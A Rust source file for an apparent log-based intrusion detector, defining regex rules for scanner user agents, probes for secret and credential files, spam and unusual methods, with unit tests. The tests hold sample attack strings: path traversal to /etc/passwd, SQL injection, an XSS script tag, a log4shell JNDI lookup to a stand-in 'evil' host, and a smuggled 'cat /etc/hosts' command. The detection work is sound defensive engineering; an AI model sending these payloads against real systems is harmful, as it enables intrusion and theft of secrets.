//! Rules for known-suspicious requests: the shipped attack checks ([`crate::detect::attack`]), the
//! shipped patterns ([`BUILTIN`]) and user rules from `[[rules.custom]]`. For the patterns, paths
//! and queries are percent-decoded once before matching, so `%2e%2e%2f` is `../`.

use std::borrow::Cow;
use std::cell::RefCell;
use std::hash::BuildHasher;

use regex::RegexSet;

use crate::config::{RulesConfig, Severity, UserRule};
use crate::detect::attack::{Inspector, ATTACKS};
use crate::detect::site::ServedPaths;
use crate::hash::FastSet;
use crate::parse::LogEvent;

/// Which part of the event a rule looks at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RuleField {
    Path,
    Query,
    Target,
    UserAgent,
    Method,
    Client,
    Status,
    Line,
}

impl RuleField {
    fn parse(s: &str) -> Option<RuleField> {
        Some(match s {
            "path" => RuleField::Path,
            "query" => RuleField::Query,
            "target" => RuleField::Target,
            "user_agent" => RuleField::UserAgent,
            "method" => RuleField::Method,
            "client" => RuleField::Client,
            "status" => RuleField::Status,
            "line" => RuleField::Line,
            _ => return None,
        })
    }
}

/// One compiled rule.
#[derive(Debug, Clone)]
pub struct Rule {
    pub name: String,
    pub field: RuleField,
    pub severity: Severity,
    pub description: String,
}

/// A rule that matched, with the value it matched.
#[derive(Debug, Clone)]
pub struct RuleMatch {
    pub name: String,
    pub severity: Severity,
    pub reason: String,
}

/// The shipped rule the engine applies itself (one client collecting error responses fast).
pub const ERROR_SCANNING: &str = "error_scanning";

/// The shipped rule the engine applies itself: a known scanner's refused requests join its incident.
pub const KNOWN_SCANNER: &str = "known_scanner";

/// The shipped pattern rule that site content can overrule (see [`ServedPaths`]).
const SENSITIVE_FILE_PROBE: &str = "sensitive_file_probe";

/// The shipped pattern rule that judges only what the site refused: a spam bot posts blindly to
/// comment and sign-up forms a site does not have; a site that has them answers real users there.
const COMMENT_SPAM: &str = "comment_spam";

/// The shipped pattern rules: (name, field, pattern, severity, description). The shipped attack
/// rules (`path_traversal`, `sql_injection`, `xss`, …) are judged by [`crate::detect::attack`].
pub const BUILTIN: &[(&str, &str, &str, Severity, &str)] = &[
    (
        "scanner_user_agent",
        "user_agent",
        r"(?i)sqlmap|nikto|nmap|masscan|zgrab|nuclei|dirbuster|gobuster|feroxbuster|ffuf|wpscan|acunetix|nessus|openvas|w3af|whatweb|jaeles|httpx|zmeu|morfeus|hydra",
        Severity::Medium,
        "scanner user agent {value}",
    ),
    (
        "sensitive_file_probe",
        "path",
        r"(?i)/\.(env|git|svn|hg|bzr|htaccess|htpasswd|ds_store|aws|ssh|docker|npmrc|bash_history)(/|$|\.)|/(wp-login\.php|wp-admin|wp-config|xmlrpc\.php|wp-content/plugins|phpmyadmin|pma|myadmin|adminer(\.php)?|server-status|actuator|jmx-console|manager/html|solr/admin|boaform|hnap1|cgi-bin|vendor/phpunit|phpinfo\.php|shell\.php|cmd\.php|eval-stdin\.php|telescope|_ignition|owa/auth|remote/login)(/|$|\?|\.)|\.(bak|old|orig|swp|sql|sqlite|tar|tgz|tar\.gz|zip|7z|rar|pem|key)$|/(backup|dump|database|db|config|configuration|settings|credentials|secrets)\.(php|yml|yaml|json|xml|ini|conf|txt|sql|zip)$",
        Severity::Medium,
        "probe for a sensitive file: {value}",
    ),
    (
        "comment_spam",
        "path",
        r"(?i)/(trackback|wp-trackback\.php|wp-comments-post\.php|comment/reply(/\d+)?|user/register|node/add(/[a-z_-]+)?|guestbook(\.php)?|register\.php)/?$|result:[^/]{0,400}(nickname|recaptcha)",
        Severity::Low,
        "comment or sign-up spam to a form the site does not have: {value}",
    ),
    (
        "unusual_method",
        "method",
        r"^(TRACE|TRACK|CONNECT|PROPFIND|PROPPATCH|MKCOL|DEBUG|SEARCH)$",
        Severity::Low,
        "unusual HTTP method {value}",
    ),
];

/// The compiled rule set: the rules of each field are one `RegexSet`, so a healthy request costs one
/// scan per field however many rules there are.
#[derive(Debug, Clone, Default)]
pub struct Rules {
    rules: Vec<Rule>,
    /// The attack checks; their rules are the first `attacks_on` entries of `rules`.
    attacks: Inspector,
    fields: Vec<FieldRules>,
    /// Paths the site serves to many clients: not sensitive-file probes.
    served: ServedPaths,
}

/// Every shipped rule's name: the attack checks, the patterns, and `error_scanning`.
pub fn shipped() -> impl Iterator<Item = &'static str> {
    ATTACKS.iter().map(|a| a.1).chain(BUILTIN.iter().map(|r| r.0)).chain([ERROR_SCANNING, KNOWN_SCANNER])
}

/// Distinct values remembered as matching no rule, per field, before the memory starts over.
const CLEAN_VALUES: usize = 8192;

/// The rules that look at one field.
#[derive(Debug, Clone)]
struct FieldRules {
    field: RuleField,
    set: RegexSet,
    /// Index into `Rules::rules` of each pattern in `set`.
    rules: Vec<usize>,
    /// Hashes of recent values that matched nothing: user agents and paths repeat, and a long
    /// alternation such as the scanner list costs ~250 ns a value. The hasher is seeded per
    /// process, so a crafted value cannot be made to collide with a clean one. Not for `line`.
    clean: RefCell<FastSet<u64>>,
    hasher: foldhash::fast::RandomState,
}

impl FieldRules {
    /// Whether `v` matches any of the field's rules.
    fn is_match(&self, v: &str) -> bool {
        if self.field == RuleField::Line {
            return self.set.is_match(v);
        }
        let h = self.hasher.hash_one(v);
        if self.clean.borrow().contains(&h) {
            return false;
        }
        let hit = self.set.is_match(v);
        if !hit {
            let mut clean = self.clean.borrow_mut();
            if clean.len() >= CLEAN_VALUES {
                clean.clear();
            }
            clean.insert(h);
        }
        hit
    }
}

fn compile(r: &UserRule) -> Rule {
    Rule {
        name: r.name.clone(),
        field: RuleField::parse(&r.field).unwrap_or(RuleField::Line),
        severity: r.severity,
        description: if r.description.is_empty() {
            format!("matched rule {}: {{value}}", r.name)
        } else {
            r.description.clone()
        },
    }
}

/// Decode `%XX` escapes (and `+` in queries) once; invalid escapes stay as they are.
pub fn percent_decode(s: &str, plus_is_space: bool) -> Cow<'_, str> {
    if !(s.contains('%') || (plus_is_space && s.contains('+'))) {
        return Cow::Borrowed(s);
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'%' if i + 2 < b.len() => {
                let hex = |c: u8| (c as char).to_digit(16);
                match (hex(b[i + 1]), hex(b[i + 2])) {
                    (Some(h), Some(l)) => {
                        out.push((h * 16 + l) as u8);
                        i += 3;
                        continue;
                    }
                    _ => out.push(b'%'),
                }
            }
            b'+' if plus_is_space => out.push(b' '),
            c => out.push(c),
        }
        i += 1;
    }
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

impl Rules {
    /// The paths the rules learned as the site's content.
    pub fn served(&self) -> &ServedPaths {
        &self.served
    }

    /// Build from validated config.
    pub fn new(cfg: &RulesConfig) -> Rules {
        let wanted = |name: &str| cfg.builtin && !cfg.disabled.iter().any(|d| d == name);
        let attacks = Inspector::new(wanted);
        let attack_rules: Vec<Rule> = ATTACKS
            .iter()
            .filter(|a| wanted(a.1))
            .map(|&(_, name, severity, label)| Rule {
                name: name.into(),
                field: RuleField::Target,
                severity,
                description: format!("{label} in {{value}}"),
            })
            .collect();
        let mut sources: Vec<UserRule> = Vec::new();
        if cfg.builtin {
            for (name, field, pattern, severity, description) in BUILTIN {
                if cfg.disabled.iter().any(|d| d == name) {
                    continue;
                }
                sources.push(UserRule {
                    name: (*name).into(),
                    field: (*field).into(),
                    pattern: (*pattern).into(),
                    severity: *severity,
                    description: (*description).into(),
                });
            }
        }
        sources.extend(cfg.custom.iter().cloned());
        let first = attack_rules.len();
        let rules: Vec<Rule> = attack_rules.into_iter().chain(sources.iter().map(compile)).collect();
        let mut fields: Vec<FieldRules> = Vec::new();
        for (i, rule) in rules.iter().enumerate().skip(first) {
            match fields.iter_mut().find(|f| f.field == rule.field) {
                Some(f) => f.rules.push(i),
                None => fields.push(FieldRules {
                    field: rule.field,
                    set: RegexSet::empty(),
                    rules: vec![i],
                    clean: RefCell::default(),
                    hasher: Default::default(),
                }),
            }
        }
        for f in &mut fields {
            // Validated at start-up.
            f.set = RegexSet::new(f.rules.iter().map(|&i| &sources[i - first].pattern))
                .expect("rule patterns are validated at start-up");
        }
        Rules { rules, attacks, fields, served: ServedPaths::default() }
    }

    pub fn len(&self) -> usize {
        self.rules.len()
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// Every rule the event matches.
    pub fn check(&self, e: &LogEvent) -> Vec<RuleMatch> {
        if self.rules.is_empty() {
            return Vec::new();
        }
        let mut out = Vec::new();
        for f in self.attacks.inspect(e) {
            // The attack rules come first, in `ATTACKS` order, those turned off left out.
            let Some(i) = self.rules.iter().position(|r| r.name == ATTACKS[f.attack as usize].1) else { continue };
            let r = &self.rules[i];
            out.push((
                i,
                RuleMatch {
                    name: r.name.clone(),
                    severity: r.severity,
                    reason: r.description.replace("{value}", &f.evidence),
                },
            ));
        }
        let path = e.path.as_deref().map(|p| percent_decode(p, false));
        let query = e.query.as_deref().map(|q| percent_decode(q, true));
        for f in &self.fields {
            let owned: String;
            let value: Option<&str> = match f.field {
                RuleField::Path => path.as_deref(),
                RuleField::Query => query.as_deref(),
                RuleField::Target => match (&path, &query) {
                    (Some(p), Some(q)) => {
                        owned = format!("{p}?{q}");
                        Some(&owned)
                    }
                    (Some(p), None) => Some(p),
                    (None, Some(q)) => {
                        owned = format!("?{q}");
                        Some(&owned)
                    }
                    (None, None) => None,
                },
                RuleField::UserAgent => e.user_agent.as_deref(),
                RuleField::Method => e.method.as_deref(),
                RuleField::Client => e.client.as_deref(),
                RuleField::Status => match e.status {
                    Some(s) => {
                        owned = s.to_string();
                        Some(&owned)
                    }
                    None => None,
                },
                RuleField::Line => Some(e.raw.line.as_str()),
            };
            let Some(v) = value else { continue };
            if !f.is_match(v) {
                continue;
            }
            for k in f.set.matches(v).iter() {
                let r = &self.rules[f.rules[k]];
                if r.name == SENSITIVE_FILE_PROBE
                    && f.field == RuleField::Path
                    && self.served.content(
                        v,
                        e.client.as_deref(),
                        e.status,
                        e.user_agent.as_deref().is_some_and(crate::features::context::declared_crawler),
                    )
                {
                    continue;
                }
                if r.name == COMMENT_SPAM && !matches!(e.status, Some(400..=499)) {
                    continue;
                }
                out.push((
                    f.rules[k],
                    RuleMatch {
                        name: r.name.clone(),
                        severity: r.severity,
                        reason: r.description.replace("{value}", &shorten(v, 120)),
                    },
                ));
            }
        }
        // In the order the rules are configured, whichever field they look at.
        out.sort_by_key(|(i, _)| *i);
        out.into_iter().map(|(_, m)| m).collect()
    }
}

/// At most `max` characters, with an ellipsis when cut.
pub fn shorten(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max).collect();
    out.push('…');
    out
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::config::RulesConfig;
    use crate::source::RawLine;

    /// A request event with `target` (path and query) and user agent `ua`.
    pub(crate) fn req(method: &str, target: &str, ua: &str) -> LogEvent {
        let (path, query) = match target.split_once('?') {
            Some((p, q)) => (p.to_string(), Some(q.to_string())),
            None => (target.to_string(), None),
        };
        LogEvent {
            time: jiff::Timestamp::UNIX_EPOCH,
            own_time: true,
            stated_time: None,
            format: crate::parse::Format::Json,
            method: Some(method.into()),
            path: Some(path),
            query,
            endpoint: format!("{method} x"),
            status: Some(404),
            response_time_ms: Some(3.0),
            bytes: Some(10),
            client: Some("203.0.113.9".into()),
            user_agent: Some(ua.into()),
            referer: None,
            level: None,
            message: None,
            raw: RawLine::new(jiff::Timestamp::UNIX_EPOCH, format!("{method} {target} {ua}"), 1),
            problem: None,
            truncated: false,
        }
    }

    fn names(rules: &Rules, e: &LogEvent) -> Vec<String> {
        rules.check(e).into_iter().map(|m| m.name).collect()
    }

    #[test]
    fn shipped_rules_catch_common_probes() {
        let r = Rules::new(&RulesConfig::default());
        let ua = "Mozilla/5.0";
        assert_eq!(names(&r, &req("GET", "/static/../../etc/passwd", ua)), ["path_traversal"]);
        assert_eq!(names(&r, &req("GET", "/files/%2e%2e%2f%2e%2e%2fetc%2fpasswd", ua)), ["path_traversal"]);
        assert!(names(&r, &req("GET", "/api/products?id=1'%20OR%20'1'='1", ua)).contains(&"sql_injection".into()));
        assert!(names(&r, &req("GET", "/search?q=1+UNION+SELECT+password+FROM+users", ua))
            .contains(&"sql_injection".into()));
        assert!(names(&r, &req("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ua)).contains(&"xss".into()));
        assert_eq!(names(&r, &req("GET", "/.env", ua)), ["sensitive_file_probe"]);
        assert_eq!(names(&r, &req("GET", "/.git/config", ua)), ["sensitive_file_probe"]);
        assert_eq!(names(&r, &req("POST", "/wp-login.php", ua)), ["sensitive_file_probe"]);
        assert_eq!(names(&r, &req("GET", "/backup.sql", ua)), ["sensitive_file_probe"]);
        assert_eq!(
            names(&r, &req("GET", "/api/users", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
            ["scanner_user_agent"]
        );
        assert_eq!(names(&r, &req("GET", "/x?q=${jndi:ldap://evil/a}", ua)), ["log4shell"]);
        assert_eq!(names(&r, &req("TRACE", "/", ua)), ["unusual_method"]);
    }

    #[test]
    fn ordinary_requests_match_nothing() {
        let r = Rules::new(&RulesConfig::default());
        for (m, t, ua) in [
            ("GET", "/api/users?page=2&sort=name", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"),
            ("GET", "/api/search?q=red+shoes+size+42", "ShopApp/4.2 (iOS 17.1)"),
            ("POST", "/api/orders", "python-requests/2.31.0"),
            ("GET", "/healthz", "kube-probe/1.29"),
            ("GET", "/static/app.js", "curl/8.4.0"),
            ("GET", "/api/products/123", "Prometheus/2.45.0"),
            ("GET", "/api/search?q=o'reilly+books", "Mozilla/5.0"),
            ("GET", "/api/users?email=ann%40example.com", "Mozilla/5.0"),
        ] {
            assert!(names(&r, &req(m, t, ua)).is_empty(), "{m} {t} {ua}: {:?}", names(&r, &req(m, t, ua)));
        }
    }

    #[test]
    fn user_rules_and_disabling_work() {
        let cfg = RulesConfig {
            builtin: true,
            disabled: vec!["scanner_user_agent".into()],
            custom: vec![UserRule {
                name: "admin".into(),
                field: "path".into(),
                pattern: "^/admin".into(),
                severity: Severity::High,
                description: "admin path {value}".into(),
            }],
        };
        let r = Rules::new(&cfg);
        let m = r.check(&req("GET", "/admin/users", "nikto"));
        assert_eq!(m.len(), 1);
        assert_eq!(m[0].name, "admin");
        assert_eq!(m[0].reason, "admin path /admin/users");
        assert_eq!(m[0].severity, Severity::High);
    }

    #[test]
    fn every_matching_rule_is_reported_in_configured_order() {
        let custom = |name: &str, field: &str, pattern: &str| UserRule {
            name: name.into(),
            field: field.into(),
            pattern: pattern.into(),
            severity: Severity::Low,
            description: String::new(),
        };
        let cfg = RulesConfig {
            builtin: true,
            disabled: vec![],
            custom: vec![custom("not_found", "status", "^404$"), custom("etc", "target", "/etc/")],
        };
        let r = Rules::new(&cfg);
        // Two shipped rules on the target, one on the user agent, one on the path, both custom rules.
        let e = req("GET", "/cgi-bin/x?f=../../etc/passwd;cat%20/etc/hosts", "nikto");
        assert_eq!(
            names(&r, &e),
            ["path_traversal", "command_injection", "scanner_user_agent", "sensitive_file_probe", "not_found", "etc"]
        );
        assert_eq!(r.check(&e)[4].reason, "matched rule not_found: 404");
    }

    #[test]
    fn remembered_clean_values_never_hide_a_match() {
        let r = Rules::new(&RulesConfig::default());
        let ua = "Mozilla/5.0 (X11; Linux x86_64)";
        for i in 0..(2 * CLEAN_VALUES + 10) {
            // Distinct clean values overflow the memory and start it over...
            assert!(names(&r, &req("GET", &format!("/api/users/{i}"), ua)).is_empty());
            // ...while a probe is reported every time, even on a path seen clean before.
            if i % 1000 == 0 {
                assert_eq!(names(&r, &req("GET", "/api/users/1", "nikto/2.5")), ["scanner_user_agent"]);
                assert_eq!(names(&r, &req("GET", "/api/users/1", "nikto/2.5")), ["scanner_user_agent"]);
            }
        }
        assert!(r.fields.iter().all(|f| f.clean.borrow().len() <= CLEAN_VALUES));
    }

    #[test]
    fn percent_decoding_is_lenient() {
        assert_eq!(percent_decode("%2e%2E/%zz%", false), "../%zz%");
        assert_eq!(percent_decode("a+b", true), "a b");
        assert_eq!(percent_decode("%ff", false), "\u{fffd}");
    }
}
